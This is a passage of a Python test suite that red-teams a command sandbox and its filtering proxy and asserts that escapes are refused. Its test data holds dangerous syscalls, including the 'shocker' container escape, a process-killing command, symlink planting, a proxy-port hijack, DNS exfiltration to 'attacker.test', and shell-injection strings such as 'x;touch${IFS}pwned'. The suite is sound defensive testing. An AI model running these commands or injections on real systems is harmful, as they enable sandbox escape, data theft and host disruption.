    async with box("bwrap", tmp_path, network="proxied", allowed_domains=("localhost",)) as b:
        await b.sh("kill -9 -1; pkill -9 -f . ; true")
        _, out = await b.sh(get)
    assert out.endswith("ok"), out


#: (name, x86_64 number, perl arguments): calls that reach the kernel's soft spots or another process.
DANGEROUS_CALLS = (
    ("userfaultfd", 323, "0"),
    ("bpf", 321, "0, $z, 0"),
    ("perf_event_open", 298, "$z, 0, -1, -1, 0"),
    ("open_by_handle_at", 304, "3, $h, 0"),  # the "shocker" container escape
    ("ptrace_attach_init", 101, "16, 1, 0, 0"),
    ("process_vm_readv_init", 310, "1, $l, 1, $r, 1, 0"),
    ("add_key", 248, "$u, $d, $d, 1, -4"),
    ("reboot", 169, "0xfee1dead, 672274793, 0x4321fedc, 0"),
    ("init_module", 175, "$z, 0, $d"),
    ("kexec_load", 246, "0, 0, 0, 0"),
)


async def _refused(kind: str, tmp_path: Path, calls: tuple[tuple[str, int, str], ...]) -> None:
    """Run each call in perl inside ``kind``; each must return -1 with EPERM, EACCES or ENOSYS."""
    require(os.uname().machine == "x86_64", "syscall numbers below are x86_64's")
    setup = (
        'my $z = "\\0" x 256; my $h = "\\0" x 136; my $u = "user"; my $d = "x"; my $b = "\\0" x 8; '
        'my $l = pack("QQ", unpack("Q", pack("p", $b)), 8); my $r = pack("QQ", 0x1000, 8); '
    )
    script = "".join(
        f'$! = 0; print "{name} ", syscall({nr}, {args}), " ", $!+0, "\\n"; ' for name, nr, args in calls
    )
    async with box(kind, tmp_path) as b:
        _, out = await b.sh(f"perl -e '{setup}{script}'")
    results = {line.split()[0]: line.split()[1:] for line in out.splitlines() if line.strip()}
    assert set(results) == {name for name, _, _ in calls}, out
    for name, (ret, err) in results.items():
        assert ret == "-1" and int(err) in {1, 13, 38}, f"{name}: returned {ret}, errno {err}\n{out}"


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_dangerous_system_calls_are_refused(kind: str, tmp_path: Path) -> None:
    await _refused(kind, tmp_path, DANGEROUS_CALLS)


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_io_uring_is_refused(kind: str, tmp_path: Path) -> None:
    """io_uring runs file and socket operations that no seccomp filter sees."""
    await _refused(kind, tmp_path, (("io_uring_setup", 425, "8, $z"),))


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_the_hosts_shared_memory_is_out_of_reach(kind: str, tmp_path: Path) -> None:
    """/dev/shm is a channel to host processes (POSIX semaphores, shared memory): not the host's."""
    marker = f"shellrt-redteam-{os.urandom(4).hex()}"
    host_file = Path("/dev/shm") / marker
    host_file.write_text("host\n")
    planted = Path("/dev/shm") / f"{marker}-planted"
    try:
        async with box(kind, tmp_path) as b:
            _, listing = await b.sh("ls -a /dev/shm")
            await b.sh(f"echo x > /dev/shm/{marker}-planted; true")
            _, read = await b.sh(f"cat /dev/shm/{marker} 2>/dev/null; true")
        assert marker not in listing and read == "" and not planted.exists(), (listing, read)
    finally:
        host_file.unlink()
        with contextlib.suppress(FileNotFoundError):
            planted.unlink()


def test_a_client_that_stops_reading_cannot_hold_the_proxys_close(tmp_path: Path) -> None:
    """A tunnel whose client never reads keeps data buffered; closing the session must not wait on it."""
    flood = socket.create_server(("127.0.0.1", 0))
    port = int(flood.getsockname()[1])
    stop = threading.Event()

    def serve() -> None:
        conn, _ = flood.accept()
        conn.setblocking(False)
        with conn, contextlib.suppress(ConnectionError):  # reset once the proxy aborts the tunnel
            while not stop.is_set():
                with contextlib.suppress(BlockingIOError):
                    conn.send(b"x" * 65536)
                time.sleep(0.001)

    threading.Thread(target=serve, daemon=True).start()
    p = _proxy(tmp_path, ("localhost",))
    client = socket.socket(socket.AF_UNIX)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    try:
        client.connect(str(p.socket_path))
        client.sendall(f"CONNECT localhost:{port} HTTP/1.1\r\n\r\n".encode())
        time.sleep(1.0)  # the proxy's buffers toward the client fill up
        thread = p._thread
        t0 = time.monotonic()
        p.close()
        assert time.monotonic() - t0 < 5
        assert thread is not None and not thread.is_alive()
    finally:
        stop.set()
        client.close()
        flood.close()


def test_a_loop_of_refused_connections_cannot_fill_the_hosts_memory_or_disk(tmp_path: Path) -> None:
    """Refusals are kept up to a cap (then counted) and the log stops at its size limit."""
    d = tmp_path / "proxy"
    d.mkdir(mode=0o700)
    p = FilteringProxy(
        d / "proxy.sock",
        allowed=("localhost",),
        log_path=d / "network.log",
        max_refusals=50,
        max_log_bytes=20_000,
    )
    p.start()
    try:
        for i in range(400):
            assert socks(p, 3, b"\x0cblocked.test", 1000 + i) == 2
    finally:
        p.close()
    assert len(p.refusals) == 50 and p.refusals_dropped == 350
    log = (d / "network.log").read_text()
    assert len(log.encode()) <= 20_000 and log.splitlines()[-1].find('"full": true') > 0, log[-300:]


def test_a_refused_name_is_never_resolved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Resolving it would carry the name to the attacker's DNS server: exfiltration by lookup."""
    asked: list[object] = []
    real = socket.getaddrinfo

    def recording(host: object, *args: object, **kwargs: object) -> object:
        asked.append(host)
        return real(host, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(socket, "getaddrinfo", recording)
    with proxy_of(tmp_path, "*.registry.test", "localhost") as p:
        talk(p, b"CONNECT c2VjcmV0.attacker.test:443 HTTP/1.1\r\n\r\n")
        talk(p, b"GET http://c2VjcmV0.attacker.test/ HTTP/1.1\r\n\r\n")
        socks(p, 3, bytes([22]) + b"c2VjcmV0.attacker.test", 443)
    assert not any("attacker" in str(host) for host in asked), asked
    assert [r.host for r in p.refusals] == ["c2VjcmV0.attacker.test"] * 3


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_privileged_knobs_are_refused(kind: str, tmp_path: Path) -> None:
    """Knobs that would let a command starve or outlive the host's own processes, or rename the host."""
    require(os.uname().machine == "x86_64", "syscall numbers below are x86_64's")
    host_name = socket.gethostname()
    script = (
        'my $p = pack("i", 1); my $n = "shellrt-evil"; '
        "print join q{ }, syscall(141, 0, 0, -20), "  # setpriority(PRIO_PROCESS, self, -20)
        "syscall(144, 0, 1, $p), "  # sched_setscheduler(self, SCHED_FIFO, 1): real time starves the host
        "syscall(170, $n, 12), "  # sethostname
        "syscall(171, $n, 12);"  # setdomainname
    )
    async with box(kind, tmp_path) as b:
        _, syscalls = await b.sh(f"perl -e '{script}'")
        _, knobs = await b.sh(
            "(echo -1000 > /proc/self/oom_score_adj) 2>/dev/null && echo OOM_ADJ; "
            "ulimit -Hn $(( $(ulimit -Hn) + 1 )) 2>/dev/null && echo RLIMIT_RAISED; "
            'ulimit -Hu unlimited 2>/dev/null && [ "$(ulimit -Hu)" = unlimited ] && echo NPROC_UNLIMITED; '
            "echo done"
        )
    assert syscalls.split() == ["-1"] * 4, syscalls
    assert knobs.split() == ["done"], knobs
    assert socket.gethostname() == host_name


@pytest.mark.anyio
async def test_symlinks_left_in_the_session_tmp_are_not_followed_when_it_is_removed(tmp_path: Path) -> None:
    """bwrap's /tmp is a host directory removed at close: links planted there must not lead the
    removal into host files."""
    canary = tmp_path / "canary"
    canary.mkdir()
    (canary / "keep.txt").write_text("host file\n")
    async with box("bwrap", tmp_path) as b:
        code, out = await b.sh(
            f"ln -s {canary} /tmp/to-canary; mkdir -p /tmp/d; ln -s {canary}/keep.txt /tmp/d/keep; "
            f"ln -s {canary} /tmp/d/deeper; ls /tmp"
        )
        assert code == 0, out
    assert (canary / "keep.txt").read_text() == "host file\n"


@pytest.mark.anyio
@pytest.mark.parametrize("kind", BACKENDS)
async def test_a_command_cannot_take_over_the_proxy_port(
    kind: str, tmp_path: Path, recorder: Recorder
) -> None:
    """A listener of the command's own on 127.0.0.1:3128 (SO_REUSEADDR/SO_REUSEPORT included) would see
    every later command's proxy traffic."""
    async with box(kind, tmp_path, network="proxied", allowed_domains=("localhost",)) as b:
        _, out = await b.sh(
            "perl -e 'use Socket; for my $opt (SO_REUSEADDR, 15) { socket(my $s, PF_INET, SOCK_STREAM, 0); "
            "setsockopt($s, SOL_SOCKET, $opt, 1); "
            'print bind($s, pack_sockaddr_in(3128, inet_aton(q{127.0.0.1}))) && listen($s, 1) ? "TAKEN\\n" : "busy\\n"; '
            "}'"
        )
        _, fetched = await b.sh(
            f"printf 'GET http://localhost:{recorder.port}/ HTTP/1.0\\r\\n\\r\\n' | "
            "perl -e 'use IO::Socket::INET; my $s = IO::Socket::INET->new(q{127.0.0.1:3128}) or die; "
            "print $s <STDIN>; shutdown($s, 1); print <$s>'"
        )
    assert out.split() == ["busy", "busy"], out
    assert fetched.endswith("ok"), fetched


@pytest.mark.parametrize(
    "name", ["x;touch${IFS}pwned", "a$(id)b", "`id`.test", "x y&z", "x'q'y", "$HOME", "a|b>c"]
)
def test_a_refused_name_cannot_smuggle_a_shell_command_into_the_suggested_fix(
    tmp_path: Path, name: str
) -> None:
    """The 403 body, the CLI and the audit face say ``--allow-domain NAME``: an operator pasting it
    must get one inert argument, whatever the sandbox put in NAME."""
    import shlex

    with proxy_of(tmp_path, "localhost") as p:
        out = talk(p, f"CONNECT {name}:443 HTTP/1.1\r\n\r\n".encode())
        assert socks(p, 3, bytes([len(name)]) + name.encode(), 443) == 2
    assert out.startswith((b"HTTP/1.1 403", b"HTTP/1.1 400")), out  # a space ends the request line: 400
    assert p.refusals
    for refusal in p.refusals:
        assert refusal.host == shlex.quote(name), refusal.host  # one single-quoted, inert word
        # Round 40: a name no listing can lift (not a valid host name) is given no fix at all.
        assert f"--allow-domain {refusal.host} " in refusal.message() or (
            refusal.remedy == "none" and "No --allow-domain changes this" in refusal.message()
        ), refusal.message()
